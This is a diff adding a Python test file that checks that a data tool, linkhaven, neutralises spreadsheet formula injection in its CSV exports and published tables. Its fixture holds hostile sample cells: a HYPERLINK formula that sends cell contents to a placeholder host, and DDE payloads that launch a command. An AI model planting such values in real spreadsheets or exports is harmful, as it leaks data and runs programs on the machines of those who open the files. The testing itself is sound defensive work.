@@ -1,0 +1,86 @@
+"""What linkhaven writes where people open it: CSV exports, `--out` paths, and retention's dry run."""
+
+from __future__ import annotations
+
+import csv
+import stat
+from pathlib import Path
+
+import pyarrow as pa
+from hypothesis import given
+from hypothesis import strategies as st
+
+from linkhaven.csvsafe import FORMULA_STARTS, neutralise
+from linkhaven.publish import publish_panel, reaudit
+from tests.conftest import Env
+from tests.test_intake import onsis_row, open_gates, write_csv
+from tests.test_publish_tables import small_spec
+
+FORMULAS = {
+    "LEGAL_FIRST_NAME": '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
+    "LEGAL_LAST_NAME": "+1+cmd|' /C calc'!A0",
+    "POSTAL_CODE": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "SCHOOL_NUMBER": "-2+3",
+    "DATE_OF_BIRTH": "\t=1+2",  # also malformed: the row is quarantined
+    "GENDER": "\r=1+2",
+}
+
+
+# -- CSV exports ------------------------------------------------------------------------------
+def test_quarantine_export_neutralises_formulas_and_is_private(env: Env, tmp_path: Path) -> None:
+    open_gates(env)
+    file = write_csv(tmp_path / "onsis.csv", [onsis_row(1), onsis_row(2, **FORMULAS)])
+    assert env.as_user("steward", "intake", "--source", "onsis", str(file)).code == 0
+    out = tmp_path / "export" / "q.csv"
+    result = env.as_user("steward", "quarantine", "export", "--delivery", "D0001", "--out", str(out))
+    assert result.code == 0, result.err
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # personal information: the steward's eyes only
+    with out.open(encoding="utf-8", newline="") as handle:
+        (row,) = list(csv.DictReader(handle))
+    found = {v for v in row.values() if v}
+    assert not any(v.startswith(FORMULA_STARTS) for v in found)
+    for value in FORMULAS.values():
+        assert "'" + value in found, value  # shown as the text it was, one quote in front
+    again = env.as_user("steward", "quarantine", "export", "--delivery", "D0001", "--out", str(out))
+    assert again.code == 1 and "already exists" in again.err
+
+
+def test_published_tables_neutralise_codes_that_look_like_formulas(tmp_path: Path) -> None:
+    spec = small_spec()
+    assert spec.indicators is not None
+    indicators = spec.indicators.model_copy(
+        update={
+            "breakdowns": {"gender": spec.indicators.breakdowns["gender"]},
+            "measures": tuple(m.model_copy(update={"breakdowns": None}) for m in spec.indicators.measures
+                              if m.id == "students"),
+        }
+    )  # fmt: skip
+    n = 300
+    panel = pa.table(
+        {
+            "person_id": list(range(n)),
+            "school_year": ["2022-23"] * n,
+            "care_status": ["not_involved"] * (n - 40) + ["in_care"] * 40,
+            "gender": ["F", "M", "=2+5"] * (n // 3),  # a code no list holds, as a generalised release may bring
+        }
+    )
+    folder = tmp_path / "pub"
+    publish_panel(panel, spec.model_copy(update={"indicators": indicators}), folder)
+    with (folder / "tables" / "students-by-gender.csv").open(encoding="utf-8", newline="") as handle:
+        lines = list(csv.DictReader(handle))
+    assert "'=2+5" in {line["gender"] for line in lines}
+    assert not any(v.startswith(FORMULA_STARTS) for line in lines for v in line.values())
+    assert reaudit(folder).passed  # the cell keys, which start with a column name, are read back as written
+
+
+def test_neutralise_leaves_keys_numbers_and_plain_text_alone() -> None:
+    assert neutralise("=1+2") == "'=1+2" and neutralise("-") == "'-" and neutralise("@x") == "'@x"
+    assert neutralise("board=B1|care_status=all") == "board=B1|care_status=all"  # a cell key starts with a name
+    assert neutralise(-5) == -5 and neutralise(None) == ""  # numbers are not formulas; None is an empty cell
+
+
+@given(st.text())
+def test_property_no_neutralised_text_starts_a_formula(text: str) -> None:
+    safe = neutralise(text)
+    assert isinstance(safe, str) and not safe.startswith(FORMULA_STARTS)
+    assert safe in (text, "'" + text)
